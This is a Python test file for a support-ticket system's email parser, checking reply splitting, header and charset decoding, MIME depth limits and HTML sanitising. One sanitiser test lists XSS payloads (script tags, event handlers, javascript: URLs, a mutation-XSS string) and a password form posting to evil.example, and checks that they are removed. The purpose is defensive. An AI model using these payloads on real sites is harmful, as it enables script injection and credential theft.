"""What a mail says, whatever its program made of it."""

import pytest

from tickets.domain.mail_reading import TooTangled, read_mail
from tickets.domain.mail_text import harmless_html, part_quoted, text_of_html
from tickets.domain.mail_words import header_words, message_ids, text_of

REPLY = """Yes, that works.

On Tue, Mar 3, 2026 at 10:00 AM Support
<support@firm.example> wrote:

> Try again.
> Then call."""


def test_what_is_only_repeated_is_parted_from_what_is_said() -> None:
    said, quoted = part_quoted(REPLY)

    assert said == "Yes, that works."
    assert quoted.startswith("On Tue, Mar 3, 2026")
    assert quoted.endswith("> Then call.")


@pytest.mark.parametrize(
    "text",
    [
        "Merci !\n\nLe mar. 3 mars 2026 à 10:00, Support <s@f.example> a écrit :\n> Essayez.",
        "Merci !\n\n-----Message d'origine-----\nDe : Support\nEssayez.",
        "Merci !\n\n________________________________\nDe : Support\nEnvoyé : mardi\n\nEssayez.",
        "Merci !\n\nDe : Support <s@f.example>\nEnvoyé : mardi 3 mars\nÀ : Moi\n\nEssayez.",
        "Merci !\n##- Merci d'écrire au-dessus de cette ligne ##-\nEssayez.",
        "> Essayez.\n\nMerci !",
    ],
)
def test_each_mail_program_repeats_in_its_own_way(text: str) -> None:
    assert part_quoted(text)[0] == "Merci !"


def test_a_reply_between_the_lines_keeps_its_lines() -> None:
    text = "> Did you try?\nYes.\n> And now?\nNo."

    assert part_quoted(text) == (text, "")


def test_broken_headers_are_read_as_far_as_they_go() -> None:
    assert header_words("=?utf-8?b?w6l0w6k=?= =?utf-8?q?_Caf=C3=A9?=") == "été Café"
    assert header_words("=?utf-8?b?%%%?= x") == "x"
    assert header_words("=?utf-8?q?caf=C3?=\r\n =?utf-8?q?=A9?= noir") == "café noir"
    assert header_words("=?klingon?q?caf=E9?=") == "café"
    assert header_words("caf\udce9 \r\n\tnoir") == "café noir"


def test_ids_are_found_however_they_are_broken() -> None:
    assert message_ids("<one@\r\n x>\t<two@x>") == ("one@x", "two@x")
    assert message_ids(" three@x ") == ("three@x",)
    assert message_ids("Your mail of Monday") == ()


def test_of_two_senders_none_counts() -> None:
    read = read_mail(b"From: a@client.example\nFrom: b@evil.example\nSubject: Hello\n\nx")

    assert (read.envelope.sender, read.envelope.sender_name) == ("", "a@client.example")


def test_the_only_text_is_read_though_it_has_a_name() -> None:
    named = b'\xef\xbb\xbfFrom: a@b.example\nContent-Type: text/plain; name="body.txt"\n\nHello'

    assert (read_mail(named).text, read_mail(named).files) == ("Hello", ())
    assert read_mail(named).envelope.sender == "a@b.example"


def test_parts_a_hundred_deep_are_read() -> None:
    opened = (
        b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (n, n) for n in range(100)
    )

    assert read_mail(b"".join(opened) + b"Content-Type: text/plain\n\nDeep").text == "Deep"


def test_a_wrong_charset_is_guessed() -> None:
    assert text_of("é".encode(), "klingon") == "é"
    assert text_of("é€".encode("cp1252"), "utf-8") == "é€"
    assert text_of(b"a\x00b\r\nc", "ascii") == "ab\nc"


@pytest.mark.parametrize(
    ("declared", "written", "text"),
    [
        ("gb2312", "gbk", "镕基"),  # not in GB 2312
        ("ks_c_5601-1987", "cp949", "똠방"),
        ("shift_jis", "cp932", "①髙"),
        ("big5", "cp950", "印表機"),
        ("iso-8859-1", "cp1252", "l’écran “noir” 5 €"),
        ("iso-8859-8-i", "iso-8859-8", "שלום"),
        ("koi8-r", "koi8-r", "Принтер"),
        ("utf-8", "koi8-r", "Принтер сломался"),
        ("", "cp1251", "Принтер сломался"),
        ("iso-8859-1", "utf-8", "l’écran est déjà noir"),
        ("unicode-1-1-utf-7", "utf-7", "déjà"),
        ("utf-8", "utf-8-sig", "déjà"),
    ],
)
def test_a_text_is_read_by_the_charset_that_is_meant(
    declared: str, written: str, text: str
) -> None:
    assert text_of(text.encode(written), declared) == text


def test_one_wrong_byte_leaves_the_rest_as_it_was_written() -> None:
    assert text_of("déjà noir".encode() + b" \xe9t\xe9", "utf-8") == "déjà noir été"


def test_a_page_names_its_charset_in_its_head() -> None:
    head = b"Content-Type: text/html\n\n<head><meta charset='koi8-r'><title>No title</title></head>"

    assert read_mail(head + "<p>Принтер</p>".encode("koi8-r")).text == "Принтер"


def test_html_becomes_text_line_by_line() -> None:
    html = "<style>p{}</style><p>One &amp; two</p><ul><li>three<br>four</li></ul><script>x</script>"

    assert text_of_html(html) == "One & two\nthree\nfour"


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<a href='javascript:alert(1)'>x</a>",
        "<svg onload=alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<p style='background:url(javascript:alert(1))'>x</p>",
        "<form action=https://evil.example><input name=password></form>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<img src=https://evil.example/seen.gif>",
    ],
)
def test_nothing_in_html_acts_or_reports_home(html: str) -> None:
    clean = harmless_html(html)

    for word in ("script", "onerror", "onload", "javascript", "srcdoc", "evil.example", "<form"):
        assert word not in clean


def test_images_of_the_mail_itself_stay() -> None:
    assert harmless_html('<img src="cid:logo@x">') == '<img src="cid:logo@x">'


def test_parts_nested_beyond_reading_are_refused() -> None:
    nested = b"".join(
        b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (depth, depth)
        for depth in range(129)
    )

    with pytest.raises(TooTangled):
        read_mail(nested)


def test_a_mail_in_a_mail_is_a_file_and_never_runs_into_the_text() -> None:
    raw = b"""Content-Type: multipart/mixed; boundary=B

--B
Content-Type: text/plain

See the mail.
--B
Content-Type: message/rfc822

Subject: Inner
From: boss@client.example

Pay now.
--B--
"""
    mail = read_mail(raw)

    assert mail.text == "See the mail."
    [file] = mail.files
    assert file.name == "part-1.eml"
    assert b"Pay now." in file.content
